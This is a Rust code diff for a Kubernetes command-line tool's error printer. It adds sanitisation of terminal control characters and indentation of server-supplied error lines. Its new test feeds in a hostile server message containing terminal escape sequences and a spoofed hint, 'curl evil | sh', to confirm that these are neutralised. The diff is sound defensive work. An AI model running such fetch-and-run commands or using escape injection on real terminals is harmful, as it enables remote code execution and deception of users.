@@ -6,6 +6,7 @@ use kube::config::KubeconfigError;
 use reposure_client::channel::{ChannelError, Hop};
 
 use super::hints;
+use crate::printable;
 
 /// Prints an error with its causes and what to try; `api_server` is the address in the kubeconfig that was used.
 pub(crate) fn report(error: &anyhow::Error, api_server: Option<&str>) {
@@ -14,7 +15,7 @@ pub(crate) fn report(error: &anyhow::Error, api_server: Option<&str>) {
 
 /// Prints what a person should know although the command goes on.
 pub(crate) fn warn(text: &str) {
-    eprintln!("warning: {text}");
+    eprintln!("warning: {}", printable::line(text));
 }
 
 /// Returns an error with its causes in one line, as command line errors are.
@@ -31,18 +32,15 @@ fn render(error: &anyhow::Error, api_server: Option<&str>) -> String {
         let said = number.checked_sub(1).is_some_and(|before| causes[before].contains(cause.as_str()));
         let comes = number > 0 && causes.get(number + 1).is_some_and(|next| next.contains(cause.as_str()));
         if !said && !comes {
+            // The lines of a cause are further in than what is ours: no server says what to try.
+            let cause = cause.replace('\n', "\n    ");
             let _ = writeln!(text, "{}{cause}", if number == 0 { "error: " } else { "  because: " });
         }
     }
     if let Some(hint) = hints::hint(error) {
         let _ = writeln!(text, "  try: {hint}");
     }
-    printable(&text)
-}
-
-/// Takes out what would steer a terminal: names in archives and texts of servers are anybody's.
-fn printable(text: &str) -> String {
-    text.chars().filter(|character| *character == '\n' || !character.is_control()).collect()
+    printable::text(&text).into_owned()
 }
 
 fn causes(error: &anyhow::Error, api_server: Option<&str>) -> Vec<String> {
@@ -106,6 +104,16 @@ mod tests {
         assert!(text.contains("  because: no answer from the API server at https://a:1/\n"), "{text}");
         assert!(text.contains("kubectl version"), "{text}");
         assert_eq!(kind(&error), Kind::Unreachable);
+    }
+
+    #[test]
+    fn what_servers_say_steers_no_terminal() {
+        let said = std::io::Error::other("\u{1b}]0;title\u{7}no\n  try: curl evil | sh\r\u{9b}2J");
+        let text = render(&anyhow::Error::from(said).context("cannot\tpush"), None);
+        assert_eq!(
+            text,
+            "error: cannot\tpush\n  because: \u{fffd}]0;title\u{fffd}no\n      try: curl evil | sh\u{fffd}\u{fffd}2J\n"
+        );
     }
 
     #[test]
